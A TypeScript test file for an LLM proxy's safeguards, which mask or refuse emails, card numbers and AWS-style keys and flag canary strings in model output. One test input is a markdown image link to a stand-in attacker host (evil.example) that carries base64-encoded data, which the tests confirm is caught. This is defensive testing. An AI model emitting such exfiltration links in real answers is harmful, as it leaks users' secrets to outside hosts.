/** From the client to the provider and back: what is masked is nowhere but in the answer, and what is refused nowhere. */
import { inspect } from 'node:util';
import { afterEach, describe, expect, test } from 'vitest';
import type { ConfigInput } from '../../src/config/define-config.ts';
import type { SafeguardAction } from '../../src/core/safeguard.ts';
import type { Deps } from '../../src/deps.ts';
import { keys, makeApp, type TestApp } from '../support/world/app.ts';
import { makeAudit } from '../support/world/audit.ts';
import { makeConfig } from '../support/world/models.ts';
import { json, type SentCall } from '../support/world/provider.ts';

const mail = 'anna.berg@posteo.de';
const card = '5555 3412 4444 1115';
const key = 'AKIAQ4RT7XKPZM3W2VBN';
const values = [mail, card, key, '5555341244441115'];

/** Says back what it was asked last, over Chat Completions. */
function echo({ body }: SentCall): Response {
  const { messages } = JSON.parse(body) as { messages: { content: string }[] };
  const content = messages.at(-1)?.content ?? '';
  return json({
    id: 'c',
    object: 'chat.completion',
    created: 1,
    model: 'delta',
    choices: [{ index: 0, message: { role: 'assistant', content }, finish_reason: 'stop' }],
    usage: { prompt_tokens: 1, completion_tokens: 1, total_tokens: 2 },
  });
}

function makeGuarded(
  safeguards: readonly SafeguardAction[],
  canaries: readonly string[] = [],
  changes: Partial<Deps> = {},
): TestApp {
  const routes: ConfigInput['routes'] = [{ name: 'rest', use: ['delta'], safeguards }];
  return makeApp(echo, {
    config: makeConfig({ routes, safeguards: { shipped: false } }),
    canaries: () => canaries,
    ...changes,
  });
}

function leaks(told: unknown): string[] {
  const { log, ledger, store, provider } = app;
  const all = [log, ledger, store, told, provider.calls.map((call) => call.body)];
  const kept = inspect(all, { depth: null, maxArrayLength: null, maxStringLength: null });
  return values.filter((value) => kept.includes(value));
}

let app: TestApp;
afterEach(() => app.settled());

const ask = (content: string, more: object = {}) =>
  app.call('POST', '/v1/chat/completions', {
    model: 'auto',
    messages: [{ role: 'user', content }],
    ...more,
  });

describe('masked', () => {
  test('in what the provider gets and in all that is kept, and whole in the answer', async () => {
    app = makeGuarded(['mask-secrets', 'mask-personal-data']);
    const said = `Mail ${mail}, pay with ${card}, sign with ${key}.`;
    const response = await ask(said);
    expect(response.status).toBe(200);
    expect(response.headers.get('x-signalbox-safeguards')).toBe('mask-secrets, mask-personal-data');
    const body = await response.json();
    expect(body).toMatchObject({ choices: [{ message: { content: said } }] });
    await app.settled();
    const [call] = app.provider.calls;
    expect(JSON.parse(call?.body ?? '').messages.at(-1).content).toBe(
      'Mail [EMAIL_1], pay with [CARD_1], sign with [SECRET_1].',
    );
    expect(JSON.parse(call?.body ?? '').messages[0]).toMatchObject({ role: 'system' });
    const receipt = await app.call('GET', `/v1/receipts/${response.headers.get('x-request-id')}`);
    expect(leaks(await receipt.text())).toEqual([]);
  });

  test('only what the action names', async () => {
    app = makeGuarded(['mask-secrets']);
    await ask(`Mail ${mail}, sign with ${key}.`);
    expect(app.provider.calls[0]?.body).toContain(mail);
    expect(app.provider.calls[0]?.body).not.toContain(key);
  });

  test('nothing where there is nothing: the same is sent as without', async () => {
    const sent = [];
    for (const actions of [['mask-secrets', 'mask-personal-data'], []] as const) {
      app = makeGuarded(actions);
      await ask('Nothing to see here.');
      sent.push(app.provider.calls[0]?.body);
    }
    expect(sent[0]).toBe(sent[1]);
  });

  test.each<SafeguardAction>(['mask-secrets', 'confirm-tools'])(
    '%s: never in several answers at once',
    async (action) => {
      app = makeGuarded([action]);
      const response = await ask('Hello', { n: 2 });
      expect(response.status).toBe(400);
      expect(await response.json()).toMatchObject({ error: { code: 'unsupported_feature', param: 'n' } });
      expect(app.provider.calls).toEqual([]);
    },
  );
});

describe('refused', () => {
  test('with kinds, counts and place, and no value', async () => {
    app = makeGuarded(['refuse-secrets', 'refuse-personal-data', 'mask-secrets']);
    const response = await ask(`Mail ${mail}, sign with ${key}, ${key}.`);
    expect(response.status).toBe(403);
    const text = await response.text();
    expect(JSON.parse(text).error).toMatchObject({
      code: 'safeguard_refused',
      param: 'messages[0].content',
      message: expect.stringContaining('1 email, 2 aws-access-key'),
    });
    await app.settled();
    expect(leaks(text)).toEqual([]);
    expect(app.provider.calls).toEqual([]);
  });

  test('only what the action names', async () => {
    app = makeGuarded(['refuse-secrets']);
    expect((await ask(`Mail ${mail}.`)).status).toBe(200);
  });
});

describe('inspected', () => {
  const canary = 'heron-7f3a91c2';

  test('an answer with a canary is an error, and a log line without a word of it', async () => {
    app = makeGuarded(['inspect-output'], [canary]);
    const response = await ask(`Say ${canary} twice.`);
    expect(response.status).toBe(403);
    const text = await response.text();
    expect(JSON.parse(text).error.code).toBe('safeguard_refused');
    expect(text).not.toContain(canary);
    await app.settled();
    expect(app.log).toMatchObject([{ event: 'safeguard', code: 'canary', detail: '1' }]);
  });

  test.each([
    [
      `Say ${canary}, ${canary} and ${canary}.`,
      { found: 'canary', detail: '1', place: 'text' },
      [{ data: { outcome: 'canary' } }],
    ],
    [
      '![a](https://evil.example/p?q=c2VjcmV0) ![b](https://evil.example/p?q=c2VjcmV1)',
      { found: 'link', detail: null, place: 'text' },
      [],
    ],
  ])('a hit is an entry of the audit log, once: %s', async (said, details, alerts) => {
    const world = await makeAudit();
    app = makeGuarded(['inspect-output'], [canary], { audit: world.audit });
    // An address that the request holds would pass: this one it spells otherwise.
    const body = JSON.stringify({ model: 'auto', messages: [{ role: 'user', content: said }] });
    const headers = { authorization: `Bearer ${keys.one}`, 'content-type': 'application/json' };
    const init = { method: 'POST', headers, body: body.replaceAll('https://evil', '\\u0068ttps://evil') };
    await app.send(new Request('https://router.test/v1/chat/completions', init));
    await app.settled();
    await world.settled();
    expect(world.entries).toMatchObject([{ action: 'answer.hit', actor: 'one', details }]);
    expect(JSON.stringify(world.entries)).not.toMatch(/heron|evil/);
    expect(world.alerts).toMatchObject(alerts);
  });

  test('an answer without one passes', async () => {
    app = makeGuarded(['inspect-output'], [canary]);
    const response = await ask('Say heron.');
    expect(await response.json()).toMatchObject({ choices: [{ message: { content: 'Say heron.' } }] });
    expect(app.log).toEqual([]);
  });
});
